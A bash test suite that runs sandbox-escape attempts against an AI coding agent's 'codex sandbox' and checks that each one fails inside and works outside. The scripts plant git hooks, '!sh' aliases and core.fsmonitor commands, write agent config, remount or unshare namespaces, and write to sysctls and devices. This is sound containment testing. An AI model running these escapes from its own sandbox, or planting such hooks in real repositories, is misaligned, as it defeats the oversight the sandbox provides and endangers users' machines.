# Escape attempts against `codex sandbox --full-auto` (workspace-write, network off: the
# widest sandboxed policy), each run as root and as an unprivileged user. Every case
# first shows that the attack works without the sandbox (where the attacker has the
# privilege to do it at all), so a broken test cannot pass silently, then that it
# fails inside. The last groups repeat the core attacks without user namespaces
# (Landlock + seccomp only) and without Landlock (the mount view + seccomp only).
#
# The suite runs in a private mount namespace with the test directories on a tmpfs of
# its own: some attacks need file-system features (file handles, for open_by_handle_at)
# that an overlay root, such as CI's fresh machine, does not have.
if [ -z "${ESCAPE_SUITE_NS:-}" ]; then
	exec unshare --mount --propagation private env ESCAPE_SUITE_NS=1 bash "$0" "$@"
fi
. "$(dirname "$0")/lib.sh"
. "$(dirname "$0")/sandbox.inc"
mount -t tmpfs -o mode=1777 codex-escape-tests "$SBX_BASE"

LISTENER=$CODEX_TOP/tests/servers/sandbox_listener.py

# ---- helpers ----

# attack WHO CONTROL SCRIPT CHECK: SCRIPT (sh, with $1 = the outside directory, $2 = the
# workspace) runs sandboxed as WHO; CHECK (a shell condition: "the attack worked") must
# then be false. Then, when CONTROL is "all" or equals WHO, SCRIPT runs without the
# sandbox and CHECK must be true. Output is in $T/sbout and $T/ctlout.
attack() {
	local who=$1 control=$2 script=$3 check=$4
	sb "$who" --full-auto -- sh -c "$script" sh "$T/outside" "$T/ws" \
		> "$T/sbout" 2>&1 < /dev/null || true
	if eval "$check"; then
		fail "the attack worked inside the sandbox: $(head -c 600 "$T/sbout")"
	fi
	[ "$control" = all ] || [ "$control" = "$who" ] || return 0
	as "$who" sh -c "$script" sh "$T/outside" "$T/ws" > "$T/ctlout" 2>&1 < /dev/null || true
	eval "$check" || fail "control: the attack did not work without the sandbox: $(head -c 600 "$T/ctlout")"
}

escaped() { grep -q ESCAPED "$1"; }
in_sandbox_or_control() { escaped "$T/sbout" || escaped "$T/ctlout" 2>/dev/null; }
pwned() { [ "$(cat "$1" 2>/dev/null)" = pwned ] || grep -q pwned "$1" 2>/dev/null; }

# listen WHO KIND ADDR: a host service (run as WHO so the control can reach it), logging
# what it receives to $T/srv/log; sets PORT for tcp/udp/dns.
listen() {
	local who=$1 kind=$2 addr=$3
	mkdir -p "$T/srv"
	[ "$who" = root ] || chown $NOBODY "$T/srv"
	if [ "$who" = user ]; then
		start_bg setpriv --reuid=$NOBODY --regid=$NOBODY --clear-groups -- \
			"$PY" "$LISTENER" "$kind" "$addr" "$T/srv/ready" "$T/srv/log"
	else
		start_bg "$PY" "$LISTENER" "$kind" "$addr" "$T/srv/ready" "$T/srv/log"
	fi
	for i in $(seq 200); do [ -s "$T/srv/ready" ] && break; sleep 0.02; done
	[ -s "$T/srv/ready" ] || fail "listener $kind did not start"
	PORT=$(cat "$T/srv/ready")
}
reached() { [ -s "$T/srv/log" ]; }

# A process outside the sandbox, owned by WHO, with its cwd in the outside directory.
outside_process() {
	local who=$1
	shift
	if [ "$who" = user ]; then
		(cd "$T/outside" && exec setpriv --reuid=$NOBODY --regid=$NOBODY --clear-groups -- "$@") &
	else
		(cd "$T/outside" && exec "$@") &
	fi
	bg_pids+=($!)
	VICTIM=$!
}

# ---- writing outside the writable roots ----

c_write_outside() {
	setup "$1"
	attack "$1" all 'echo pwned > "$1/target"' 'pwned "$T/outside/target"'
}
test_write_outside_directly_root() { c_write_outside root; }
test_write_outside_directly_user() { c_write_outside user; }

c_write_etc() {
	setup "$1"
	attack "$1" root 'echo pwned > /etc/codex-escape-test' '[ -e /etc/codex-escape-test ]'
	rm -f /etc/codex-escape-test
}
test_write_etc_root() { c_write_etc root; }
test_write_etc_user() { c_write_etc user; }

c_symlink_new() {
	setup "$1"
	attack "$1" all 'ln -s "$1/target" link; echo pwned > link' 'pwned "$T/outside/target"'
}
test_write_through_new_symlink_root() { c_symlink_new root; }
test_write_through_new_symlink_user() { c_symlink_new user; }

c_symlink_existing() {
	setup "$1"
	ln -s "$T/outside" "$T/ws/out-link"
	attack "$1" all 'echo pwned > out-link/target' 'pwned "$T/outside/target"'
}
test_write_through_existing_symlink_root() { c_symlink_existing root; }
test_write_through_existing_symlink_user() { c_symlink_existing user; }

c_hardlink() {
	setup "$1"
	attack "$1" all 'ln "$1/target" hl && echo pwned > hl' 'pwned "$T/outside/target"'
}
test_write_through_hard_link_root() { c_hardlink root; }
test_write_through_hard_link_user() { c_hardlink user; }

c_rename_out() {
	setup "$1"
	attack "$1" all 'echo pwned > f && mv -f f "$1/target"' 'pwned "$T/outside/target"'
}
test_rename_into_outside_root() { c_rename_out root; }
test_rename_into_outside_user() { c_rename_out user; }

c_rename_in() {
	setup "$1"
	attack "$1" all 'mv "$1/target" stolen' '[ ! -e "$T/outside/target" ]'
}
test_rename_out_of_outside_root() { c_rename_in root; }
test_rename_out_of_outside_user() { c_rename_in user; }

c_rename_workspace() {
	setup "$1"
	[ "$1" = root ] || chown $NOBODY "$T"
	attack "$1" all 'cd .. && mv ws ws-moved' '[ -e "$T/ws-moved" ]'
}
test_rename_the_workspace_root() { c_rename_workspace root; }
test_rename_the_workspace_user() { c_rename_workspace user; }

c_proc_self_root() {
	setup "$1"
	attack "$1" all 'echo pwned > "/proc/self/root$1/target"' 'pwned "$T/outside/target"'
}
test_write_through_proc_self_root_root() { c_proc_self_root root; }
test_write_through_proc_self_root_user() { c_proc_self_root user; }

c_proc_pid_cwd() {
	setup "$1"
	outside_process "$1" sleep 60
	for i in $(seq 100); do [ "$(readlink /proc/$VICTIM/cwd)" = "$T/outside" ] && break; sleep 0.02; done
	# Only the victim and our own init are aimed at: a broken sandbox must not write
	# into every process's directory on the machine.
	attack "$1" all "for p in /proc/$VICTIM /proc/1; do echo pwned > \$p/cwd/target; echo pwned > \$p/root$T/outside/target; done 2>/dev/null" \
		'pwned "$T/outside/target"'
}
test_write_through_proc_pid_cwd_root() { c_proc_pid_cwd root; }
test_write_through_proc_pid_cwd_user() { c_proc_pid_cwd user; }

c_reopen_stdin() {
	setup "$1"
	sb "$1" --full-auto -- sh -c 'echo pwned > /proc/self/fd/0' \
		< "$T/outside/target" > "$T/sbout" 2>&1 || true
	expect_outside_intact
	as "$1" sh -c 'echo pwned > /proc/self/fd/0' < "$T/outside/target"
	pwned "$T/outside/target" || fail "control: reopening stdin did not work outside"
}
test_reopen_inherited_stdin_for_writing_root() { c_reopen_stdin root; }
test_reopen_inherited_stdin_for_writing_user() { c_reopen_stdin user; }

c_dir_fds() {
	setup "$1"
	# A directory as stdin, and one on descriptor 3: paths relative to them would be
	# outside the sandbox's view.
	sb "$1" --full-auto -- "$ATTACK" openat-fd 0 pwned0 < "$T/outside" \
		> "$T/sbout" 2>&1 || true
	sb "$1" --full-auto -- "$ATTACK" openat-fd 3 pwned3 3< "$T/outside" \
		>> "$T/sbout" 2>&1 || true
	expect_outside_intact
	as "$1" "$ATTACK" openat-fd 3 pwned3 3< "$T/outside"
	[ -e "$T/outside/pwned3" ] || fail "control: openat on descriptor 3 did not work"
}
test_inherited_directory_descriptors_root() { c_dir_fds root; }
test_inherited_directory_descriptors_user() { c_dir_fds user; }

# ---- protected paths in the workspace ----

c_git_config() {
	setup "$1"
	attack "$1" all 'echo "[alias] x = !sh" >> .git/config' 'grep -q alias "$T/ws/.git/config"'
}
test_write_git_config_root() { c_git_config root; }
test_write_git_config_user() { c_git_config user; }

c_git_hook_new() {
	setup "$1"
	attack "$1" all 'printf "#!/bin/sh\necho pwned\n" > .git/hooks/post-checkout' \
		'[ -e "$T/ws/.git/hooks/post-checkout" ]'
}
test_create_git_hook_root() { c_git_hook_new root; }
test_create_git_hook_user() { c_git_hook_new user; }

c_git_hook_edit() {
	setup "$1"
	attack "$1" all 'echo "echo pwned" >> .git/hooks/pre-commit' \
		'grep -q pwned "$T/ws/.git/hooks/pre-commit"'
}
test_edit_git_hook_root() { c_git_hook_edit root; }
test_edit_git_hook_user() { c_git_hook_edit user; }

c_git_hook_rename() {
	setup "$1"
	attack "$1" all 'echo "echo pwned" > evil; chmod +x evil; mv evil .git/hooks/pre-push' \
		'[ -e "$T/ws/.git/hooks/pre-push" ]'
}
test_rename_into_git_hooks_root() { c_git_hook_rename root; }
test_rename_into_git_hooks_user() { c_git_hook_rename user; }

c_git_replace() {
	setup "$1"
	attack "$1" all 'mv .git .git-old || rm -rf .git; mkdir -p .git/hooks' \
		'[ -e "$T/ws/.git-old" ] || [ ! -e "$T/ws/.git/config" ]'
}
test_replace_git_directory_root() { c_git_replace root; }
test_replace_git_directory_user() { c_git_replace user; }

c_git_hooks_path() {
	setup "$1"
	attack "$1" all 'git config core.hooksPath "$2/myhooks"' 'grep -q hooksPath "$T/ws/.git/config"'
}
test_git_config_hooks_path_root() { c_git_hooks_path root; }
test_git_config_hooks_path_user() { c_git_hooks_path user; }

c_gitdir_target() {
	setup "$1"
	# A worktree-style .git file pointing at a repository inside the workspace.
	mv .git repo.git
	echo "gitdir: repo.git" > .git
	[ "$1" = root ] || chown $NOBODY .git
	attack "$1" all 'echo "[alias] x = !sh" >> repo.git/config; echo pwned > repo.git/hooks/post-merge' \
		'grep -q alias "$T/ws/repo.git/config" || [ -e "$T/ws/repo.git/hooks/post-merge" ]'
}
test_write_gitdir_file_target_root() { c_gitdir_target root; }
test_write_gitdir_file_target_user() { c_gitdir_target user; }

# A protected path below the top of its root (a .git file pointing deeper): its mount
# point can be neither removed nor renamed, but a directory above it could be, taking
# the mount along, and a new repository made where the .git file points. Its
# core.fsmonitor then runs outside at the user's next `git status`.
c_gitdir_deep() {
	setup "$1"
	mkdir store
	mv .git store/repo.git
	echo "gitdir: store/repo.git" > .git
	[ "$1" = root ] || chown -R $NOBODY store .git
	attack "$1" all 'mv store store.old && mkdir store && cp -r store.old/repo.git store/ &&
		git config core.fsmonitor "echo pwned >&2; false"' \
		'grep -qs fsmonitor "$T/ws/store/repo.git/config"'
}
test_deep_gitdir_target_moved_aside_root() { c_gitdir_deep root; }
test_deep_gitdir_target_moved_aside_user() { c_gitdir_deep user; }

# A linked worktree as the workspace: its .git file points into the main repository's
# .git/worktrees/, and the config and hooks it runs with are the main repository's
# (the `commondir`). With the main repository in a writable root (here one added with
# --add-dir, as /tmp would be), both must stay read-only, and nothing on the way to them
# may be moved aside.
c_worktree() {
	setup "$1"
	mkdir "$T/scratch"
	git init -q "$T/scratch/main"
	git -C "$T/scratch/main" -c user.name=t -c user.email=t@t commit -q --allow-empty -m init
	git -C "$T/scratch/main" worktree add -q "$T/wt" 2>/dev/null
	[ "$1" = root ] || chown -R $NOBODY "$T/scratch" "$T/wt"
	cd "$T/wt"
	local script='c=$(git rev-parse --git-common-dir) m=$(dirname "$(git rev-parse --git-common-dir)")
		printf "#!/bin/sh\necho pwned\n" > "$c/hooks/pre-commit"; git config alias.x "!sh"
		mv "$m" "$m.moved" && mkdir -p "$c/worktrees" && cp -r "$m.moved/.git/worktrees/wt" "$c/worktrees/" &&
		cp "$m.moved/.git/HEAD" "$c/" && mkdir "$c/objects" "$c/refs" &&
		echo "[core] fsmonitor = \"echo pwned\"" > "$c/config"'
	local check='[ -e "$T/scratch/main/.git/hooks/pre-commit" ] || [ -e "$T/scratch/main.moved" ] ||
		grep -qs "alias" "$T/scratch/main/.git/config"'
	sb "$1" --full-auto --add-dir "$T/scratch" -- sh -c "$script" > "$T/sbout" 2>&1 < /dev/null || true
	if eval "$check"; then fail "the attack worked inside the sandbox: $(head -c 600 "$T/sbout")"; fi
	as "$1" sh -c "$script" > "$T/ctlout" 2>&1 < /dev/null || true
	eval "$check" || fail "control: the attack did not work without the sandbox: $(cat "$T/ctlout")"
}
test_worktree_common_dir_root() { c_worktree root; }
test_worktree_common_dir_user() { c_worktree user; }

# The workspace below another writable root (/tmp, $TMPDIR, an --add-dir; here
# $T/shared, added) with ordinary directories in between: renaming, swapping or removing
# one of those would carry the workspace (and its read-only .git) away and free its path
# for a fresh .git with a hook, or a .codex, on the real disk, where the next git or
# codex run outside the sandbox finds them. Every directory between a writable root and
# what it protects is pinned. $1 in the scripts is $T/shared.
HOOK='printf "#!/bin/sh\necho pwned\n"'
c_ancestor() {
	local who=$1 layout=$2 script=$3 check=$4 extra=()
	setup "$who"
	mkdir -p "$T/shared/$(dirname "$layout")"
	mv "$T/ws" "$T/shared/$layout"
	if [ -n "${5:-}" ]; then
		mkdir -p "$T/shared/$5"
		git -C "$T/shared/$5" init -q
		extra=(--add-dir "$T/shared/$5")
	fi
	[ "$who" = root ] || chown -R $NOBODY "$T/shared"
	cd "$T/shared/$layout"
	sb "$who" --full-auto --add-dir "$T/shared" "${extra[@]}" -- sh -c "$script" sh "$T/shared" \
		> "$T/sbout" 2>&1 < /dev/null || true
	if eval "$check"; then fail "the attack worked inside the sandbox: $(head -c 600 "$T/sbout")"; fi
	as "$who" sh -c "$script" sh "$T/shared" > "$T/ctlout" 2>&1 < /dev/null || true
	eval "$check" || fail "control: the attack did not work without the sandbox: $(head -c 600 "$T/ctlout")"
}
ANCESTOR_HOOKED='grep -qs pwned "$T/shared/a/ws/.git/hooks/post-checkout"'
c_rename_parent() {
	c_ancestor "$1" a/ws "cd \"\$1\" && mv a a.moved && mkdir -p a/ws/.git/hooks &&
		$HOOK > a/ws/.git/hooks/post-checkout" "$ANCESTOR_HOOKED"
}
test_rename_workspace_parent_root() { c_rename_parent root; }
test_rename_workspace_parent_user() { c_rename_parent user; }
test_no_userns_rename_workspace_parent_root() { no_userns c_rename_parent root; }
test_no_userns_rename_workspace_parent_user() { no_userns c_rename_parent user; }
test_no_landlock_rename_workspace_parent_user() { no_landlock c_rename_parent user; }
c_rename_grandparent() {
	c_ancestor "$1" g/p/ws "cd \"\$1\" && mv g g.moved && mkdir -p g/p/ws/.codex &&
		echo 'notify = [\"sh\"]' > g/p/ws/.codex/config.toml" \
		'[ -e "$T/shared/g/p/ws/.codex/config.toml" ]'
}
test_rename_workspace_grandparent_codex_root() { c_rename_grandparent root; }
test_rename_workspace_grandparent_codex_user() { c_rename_grandparent user; }
test_no_userns_rename_workspace_grandparent_codex_root() { no_userns c_rename_grandparent root; }
c_exchange_parent() {
	c_ancestor "$1" a/ws "cd \"\$1\" && mkdir -p decoy/ws/.git/hooks &&
		$HOOK > decoy/ws/.git/hooks/post-checkout && \"$ATTACK\" rename-exchange a decoy" \
		"$ANCESTOR_HOOKED"
}
test_exchange_workspace_parent_root() { c_exchange_parent root; }
test_exchange_workspace_parent_user() { c_exchange_parent user; }
test_no_userns_exchange_workspace_parent_user() { no_userns c_exchange_parent user; }
c_remove_parent() {
	c_ancestor "$1" a/ws "cd \"\$1\" && { rm -rf a; rmdir a/ws/.git a/ws a; true; } 2>/dev/null &&
		mkdir -p a/ws/.git/hooks && $HOOK > a/ws/.git/hooks/post-checkout" "$ANCESTOR_HOOKED"
}
test_remove_workspace_parent_root() { c_remove_parent root; }
test_remove_workspace_parent_user() { c_remove_parent user; }
# A second added root, with a repository of its own, nested in the shared one.
c_rename_added_root_parent() {
	c_ancestor "$1" a/ws "cd \"\$1\" && mv x x.moved && mkdir -p x/lib/.git/hooks &&
		$HOOK > x/lib/.git/hooks/post-checkout" 'grep -qs pwned "$T/shared/x/lib/.git/hooks/post-checkout"' x/lib
}
test_rename_nested_added_root_parent_root() { c_rename_added_root_parent root; }
test_rename_nested_added_root_parent_user() { c_rename_added_root_parent user; }
test_no_userns_rename_nested_added_root_parent_root() { no_userns c_rename_added_root_parent root; }
# The workspace itself, below the shared root: swapped with a decoy next to it.
c_swap_nested_workspace() {
	c_ancestor "$1" a/ws "cd \"\$1/a\" && mkdir -p decoy/.git/hooks && $HOOK > decoy/.git/hooks/post-checkout &&
		{ \"$ATTACK\" rename-exchange ws decoy || { mv ws ws.moved && mv decoy ws; }; }" "$ANCESTOR_HOOKED"
}
test_swap_nested_workspace_root() { c_swap_nested_workspace root; }
test_swap_nested_workspace_user() { c_swap_nested_workspace user; }
test_no_userns_swap_nested_workspace_user() { no_userns c_swap_nested_workspace user; }

c_codex_create() {
	setup "$1"
	attack "$1" all 'mkdir -p .codex && echo "notify = [\"sh\"]" > .codex/config.toml' \
		'[ -e "$T/ws/.codex/config.toml" ]'
}
test_create_codex_dir_root() { c_codex_create root; }
test_create_codex_dir_user() { c_codex_create user; }

c_codex_symlink() {
	setup "$1"
	mkdir decoy
	ln -s decoy .codex
	[ "$1" = root ] || chown -h $NOBODY decoy .codex
	attack "$1" all 'echo pwned > .codex/config.toml; rm -f .codex; mkdir .codex; echo pwned > .codex/config.toml' \
		'[ -e "$T/ws/decoy/config.toml" ] || [ -e "$T/ws/.codex/config.toml" ]'
}
test_codex_symlink_swap_root() { c_codex_symlink root; }
test_codex_symlink_swap_user() { c_codex_symlink user; }

c_agents() {
	setup "$1"
	mkdir .agents
	[ "$1" = root ] || chown $NOBODY .agents
	attack "$1" all 'echo pwned > .agents/SKILL.md' '[ -e "$T/ws/.agents/SKILL.md" ]'
}
test_write_agents_dir_root() { c_agents root; }
test_write_agents_dir_user() { c_agents user; }

# ---- what the sandbox's setup reads ----

# Setup reads pointer files (a .git file's "gitdir:", a git directory's commondir) in
# every writable root, where an earlier command may have planted anything in place of
# one. $T/shared stands for /tmp (a writable root of every run, every user's): the first
# run plants, the second must start at once, read nothing it should not, say what it
# ignored, and keep the caller's stdin for the command.
c_planted_pointer() {
	setup "$1"
	mkdir "$T/shared"
	chmod 1777 "$T/shared"
	sb "$1" --full-auto --add-dir "$T/shared" -- sh -c "$2" sh "$T/shared" > "$T/plant" 2>&1 ||
		fail "planting failed: $(cat "$T/plant")"
	[ -e "$T/shared/.git" ] || [ -L "$T/shared/.git" ] || fail "nothing was planted"
	echo for-the-command > "$T/stdin"
	local rc=0
	timeout 20 env -u TMPDIR ${SB_PREFIX:-} "$CODEX" sandbox --full-auto --add-dir "$T/shared" -- \
		sh -c 'read line; echo "got:$line"' < "$T/stdin" > "$T/sbout" 2>&1 || rc=$?
	[ "$rc" != 124 ] || fail "setup hung on the planted file"
	expect_eq "$rc" 0 "exit status ($(cat "$T/sbout"))"
	expect_contains "$(cat "$T/sbout")" "got:for-the-command"
	[ -z "${3:-}" ] || expect_contains "$(cat "$T/sbout")" "codex: warning: ignoring $T/shared/$3"
}
test_planted_commondir_fifo_root() { c_planted_pointer root 'mkdir "$1/.git" && mkfifo "$1/.git/commondir"' .git/commondir; }
test_planted_commondir_fifo_user() { c_planted_pointer user 'mkdir "$1/.git" && mkfifo "$1/.git/commondir"' .git/commondir; }
test_planted_commondir_stdin_link_root() { c_planted_pointer root 'mkdir "$1/.git" && ln -s /proc/self/fd/0 "$1/.git/commondir"' .git/commondir; }
test_planted_commondir_stdin_link_user() { c_planted_pointer user 'mkdir "$1/.git" && ln -s /dev/stdin "$1/.git/commondir"' .git/commondir; }
test_planted_commondir_tty_link_root() { c_planted_pointer root 'mkdir "$1/.git" && ln -s /dev/tty "$1/.git/commondir"' .git/commondir; }
test_planted_gitdir_file_fifo_user() { c_planted_pointer user 'mkdir -p "$1/d/g" && mkfifo "$1/d/g/commondir" && echo "gitdir: d/g" > "$1/.git"' d/g/commondir; }
test_planted_gitdir_file_link_root() { c_planted_pointer root 'ln -s /proc/self/fd/0 "$1/pointer" && ln -s pointer "$1/.git"'; }
test_planted_huge_commondir_root() { c_planted_pointer root 'mkdir "$1/.git" && truncate -s 1G "$1/.git/commondir"' .git/commondir; }
test_planted_git_fifo_user() { c_planted_pointer user 'mkfifo "$1/.git"'; }
test_no_userns_planted_commondir_fifo_user() { no_userns c_planted_pointer user 'mkdir "$1/.git" && mkfifo "$1/.git/commondir"' .git/commondir; }
test_no_userns_planted_commondir_stdin_link_root() { no_userns c_planted_pointer root 'mkdir "$1/.git" && ln -s /proc/self/fd/0 "$1/.git/commondir"' .git/commondir; }

# The proxy's audit file, named on the command line, may be a symlink a command planted
# in the workspace: it is refused, and nothing is written where the link points.
c_audit_symlink() {
	setup "$1"
	sb "$1" --full-auto -- ln -s "$T/outside/target" audit.log > "$T/plant" 2>&1 || fail "$(cat "$T/plant")"
	expect_status 125 sb "$1" --full-auto --allow-domain example.com --audit audit.log -- true
	expect_contains "$(cat "$T/err")" "audit.log is a symbolic link"
	expect_outside_intact
	sb "$1" --full-auto -- mkfifo audit.fifo > "$T/plant" 2>&1 || fail "$(cat "$T/plant")"
	expect_status 125 timeout 20 env -u TMPDIR "$CODEX" sandbox --full-auto --allow-domain x --audit audit.fifo -- true
	expect_contains "$(cat "$T/err")" "audit.fifo is not a regular file"
}
test_audit_file_symlink_root() { c_audit_symlink root; }
test_audit_file_symlink_user() { c_audit_symlink user; }

# ---- mounts, namespaces, chroot ----

c_remount() {
	setup "$1"
	attack "$1" none 'mount -o remount,rw / && echo ESCAPED; mount -o remount,bind,rw / && echo ESCAPED' \
		'escaped "$T/sbout"'
	[ "$1" = root ] || return 0
	# Control in a private mount namespace, per-mount flags only: the host is untouched.
	unshare -m sh -c 'mount -o remount,bind,ro / && mount -o remount,bind,rw / && echo ESCAPED' \
		> "$T/ctlout" 2>&1
	escaped "$T/ctlout" || fail "control: remount did not work outside: $(cat "$T/ctlout")"
}
test_remount_root_read_write_root() { c_remount root; }
test_remount_root_read_write_user() { c_remount user; }

c_mount_new() {
	setup "$1"
	# The control runs in a private mount namespace of its own: no host mount changes.
	attack "$1" none 'mount -t tmpfs none "$2/src" && echo ESCAPED; mount --bind "$2" "$1" && echo ESCAPED' \
		'escaped "$T/sbout"'
	[ "$1" = root ] || return 0
	unshare -m sh -c 'mount -t tmpfs none "$1/src" && echo ESCAPED' sh "$T/ws" > "$T/ctlout" 2>&1
	escaped "$T/ctlout" || fail "control: mount did not work outside"
}
test_mount_tmpfs_and_bind_root() { c_mount_new root; }
test_mount_tmpfs_and_bind_user() { c_mount_new user; }

c_unshare_user() {
	setup "$1"
	attack "$1" all 'unshare -Ur true && echo ESCAPED' 'in_sandbox_or_control'
}
test_unshare_user_namespace_root() { c_unshare_user root; }
test_unshare_user_namespace_user() { c_unshare_user user; }

c_unshare_remount() {
	setup "$1"
	attack "$1" all 'unshare -Urm sh -c "mount -o remount,bind,rw / && mount -t tmpfs none \"\$0\" && echo ESCAPED" "$2/src"' \
		'in_sandbox_or_control'
}
test_unshare_then_remount_root() { c_unshare_remount root; }
test_unshare_then_remount_user() { c_unshare_remount user; }

c_chroot() {
	setup "$1"
	attack "$1" root "\"$ATTACK\" chroot-escape \"\$2/jail\" \"\$1/escaped\"; chroot / true && echo ESCAPED" \
		'[ -e "$T/outside/escaped" ] || in_sandbox_or_control'
}
test_chroot_tricks_root() { c_chroot root; }
test_chroot_tricks_user() { c_chroot user; }

c_setns() {
	setup "$1"
	outside_process "$1" sleep 60
	attack "$1" root "\"$ATTACK\" setns /proc/$VICTIM/ns/mnt && echo ESCAPED" 'in_sandbox_or_control'
	[ -n "${SB_PREFIX:-}" ] && return 0 # pid 1 is the host's init without a pid namespace
	sb "$1" --full-auto -- "$ATTACK" setns /proc/1/ns/mnt > "$T/sbout" 2>&1 && fail "setns to init worked"
	return 0
}
test_setns_root() { c_setns root; }
test_setns_user() { c_setns user; }

c_open_by_handle() {
	setup "$1"
	attack "$1" root "\"$ATTACK\" open-by-handle \"\$1\" pwned \"\$2\"" '[ -e "$T/outside/pwned" ]'
}
test_open_by_handle_root() { c_open_by_handle root; }
test_open_by_handle_user() { c_open_by_handle user; }

c_mknod() {
	setup "$1"
	attack "$1" root 'mknod "$2/disk" b 8 0 && echo ESCAPED' 'in_sandbox_or_control'
	rm -f "$T/ws/disk"
}
test_mknod_device_root() { c_mknod root; }
test_mknod_device_user() { c_mknod user; }

c_proc_sys() {
	setup "$1"
	attack "$1" root 'cat /proc/sys/kernel/printk > /proc/sys/kernel/printk && echo ESCAPED' \
		'in_sandbox_or_control'
}
test_write_host_proc_sys_root() { c_proc_sys root; }
test_write_host_proc_sys_user() { c_proc_sys user; }

c_sysfs() {
	setup "$1"
	d=/sys/fs/cgroup/pids/codex-escape-$$
	attack "$1" root "mkdir $d && echo ESCAPED" 'in_sandbox_or_control'
	rmdir "$d" 2>/dev/null || true
}
test_write_sysfs_root() { c_sysfs root; }
test_write_sysfs_user() { c_sysfs user; }

# A device node outside /dev (a chroot's, a container root file system's): the read-only
# view does not stop a device (a disk's node opens for reading, and for writing without
# Landlock). Only the sandbox's own /dev may have working nodes. A node of /dev/zero's
# numbers stands in for a disk; the user case owns it.
c_device_node() {
	setup "$1"
	mknod "$T/outside/dev-node" c $((0x$(stat -c %t /dev/zero))) $((0x$(stat -c %T /dev/zero)))
	[ "$1" = root ] || chown $NOBODY "$T/outside/dev-node"
	attack "$1" all 'head -c 4 "$1/dev-node" | od -An -c | grep -q "\\\\0" && echo ESCAPED
		echo x > "$1/dev-node" && echo ESCAPED' 'in_sandbox_or_control'
	sb "$1" --full-auto -- sh -c 'head -c 4 /dev/zero | od -An -c; echo ok > /dev/null' > "$T/sbout" 2>&1
	expect_contains "$(cat "$T/sbout")" '\0' "the sandbox's own /dev/zero"
}
test_device_node_outside_dev_root() { c_device_node root; }
test_device_node_outside_dev_user() { c_device_node user; }
test_no_landlock_device_node_outside_dev_root() { no_landlock c_device_node root; }

# A writable root that holds mounts of the kernel's interfaces (a chroot with /proc and
# /sys mounted, as package build tools make them): through them root inside reached the
# host's sysctls (kernel.core_pattern: a program run as root outside at the next crash)
# and sysfs. They stay read-only. The mounts live in a mount namespace of the case's own,
# so nothing can leave them behind; writing a sysctl its own value back changes nothing
# (domainname belongs to the UTS namespace the sandbox shares with the caller).
KMOUNT_SCRIPT='v=$(cat chroot/proc/sys/kernel/domainname) &&
	printf "%s\n" "$v" > chroot/proc/sys/kernel/domainname && echo ESCAPED
	f=$(find chroot/sys/kernel -maxdepth 1 -type f -perm -200 | head -1)
	[ -n "$f" ] && python3 -c "import os, sys; os.close(os.open(sys.argv[1], os.O_WRONLY))" "$f" &&
		echo ESCAPED'
c_kernel_mounts() {
	setup "$1"
	mkdir -p chroot/proc chroot/sys
	local as_user=
	[ "$1" = root ] || as_user="setpriv --reuid=$NOBODY --regid=$NOBODY --clear-groups -- env HOME=$T/home"
	unshare -m --propagation private sh -c 'mount -t proc proc chroot/proc && mount -t sysfs sysfs chroot/sys &&
		{ $1 env -u TMPDIR $5 "$2" sandbox --full-auto -- sh -c "$3" > "$4/sbout" 2>&1 < /dev/null
		  $1 sh -c "$3" > "$4/ctlout" 2>&1 < /dev/null; true; }' \
		sh "$as_user" "$CODEX" "$KMOUNT_SCRIPT" "$T" "${SB_PREFIX:-}"
	escaped "$T/sbout" && fail "wrote through a kernel mount in a writable root: $(cat "$T/sbout")"
	[ "$1" = user ] || escaped "$T/ctlout" || fail "control: the kernel mounts were not writable: $(cat "$T/ctlout")"
}
test_kernel_mounts_in_a_writable_root_root() { c_kernel_mounts root; }
test_kernel_mounts_in_a_writable_root_user() { c_kernel_mounts user; }
test_no_userns_kernel_mounts_in_a_writable_root_root() { no_userns c_kernel_mounts root; }
test_no_landlock_kernel_mounts_in_a_writable_root_root() { no_landlock c_kernel_mounts root; }

# A writable root that is, or contains, the host's kernel file systems, however it is
# given: the command writes a sysctl its own value back (domainname belongs to the UTS
# namespace the sandbox shares with the caller: nothing changes), makes a cgroup, and
# writes a sysfs attribute (a directory in /sys/fs/cgroup only where that is cgroup2
# itself, not the tmpfs holding v1 hierarchies). None of it may work, and the run itself
# must.
KROOT_SCRIPT='v=$(cat /proc/sys/kernel/domainname) &&
	printf "%s\n" "$v" > /proc/sys/kernel/domainname && echo ESCAPED-sysctl
	mkdir /sys/fs/cgroup/pids/codex-escape-$$ 2>/dev/null && rmdir /sys/fs/cgroup/pids/codex-escape-$$ && echo ESCAPED-cgroup
	[ "$(stat -f -c %T /sys/fs/cgroup)" = cgroup2fs ] && mkdir /sys/fs/cgroup/codex-escape-$$ 2>/dev/null &&
		rmdir /sys/fs/cgroup/codex-escape-$$ && echo ESCAPED-cgroup2
	f=$(find /sys/kernel -maxdepth 1 -type f -perm -200 | head -1)
	[ -n "$f" ] && python3 -c "import os, sys; os.close(os.open(sys.argv[1], os.O_WRONLY))" "$f" && echo ESCAPED-sysfs
	echo ran'
c_kernel_root() {
	local who=$1
	shift
	setup "$who"
	printf '[sandbox_workspace_write]\nwritable_roots = ["/proc", "/sys"]\n' > "$T/kroot-config.toml"
	[ "$1" != --config-file ] || { cp "$T/kroot-config.toml" "$CODEX_HOME/config.toml"; shift; }
	sb "$who" --full-auto "$@" -- sh -c "$KROOT_SCRIPT" > "$T/sbout" 2>&1 < /dev/null || true
	escaped "$T/sbout" && fail "wrote the kernel's files through a writable root: $(cat "$T/sbout")"
	expect_contains "$(cat "$T/sbout")" ran "the command ran"
	[ "$who" = root ] || return 0
	sh -c "$KROOT_SCRIPT" > "$T/ctlout" 2>&1 < /dev/null || true
	grep -q ESCAPED-sysctl "$T/ctlout" || fail "control: the sysctl was not writable: $(cat "$T/ctlout")"
}
test_kernel_fs_as_root_slash_root() { c_kernel_root root -C /; }
test_no_userns_kernel_fs_as_root_slash_root() { no_userns c_kernel_root root -C /; }
test_kernel_fs_as_root_proc_root() { c_kernel_root root --add-dir /proc; }
test_no_userns_kernel_fs_as_root_proc_root() { no_userns c_kernel_root root --add-dir /proc; }
test_kernel_fs_as_root_proc_sys_kernel_root() { c_kernel_root root -C /proc/sys/kernel; }
test_no_userns_kernel_fs_as_root_proc_sys_kernel_root() { no_userns c_kernel_root root -C /proc/sys/kernel; }
test_kernel_fs_as_root_sys_root() { c_kernel_root root --add-dir /sys; }
test_no_userns_kernel_fs_as_root_sys_root() { no_userns c_kernel_root root --add-dir /sys; }
test_kernel_fs_as_root_cgroup_root() { c_kernel_root root --add-dir /sys/fs/cgroup; }
test_no_userns_kernel_fs_as_root_cgroup_root() { no_userns c_kernel_root root --add-dir /sys/fs/cgroup; }
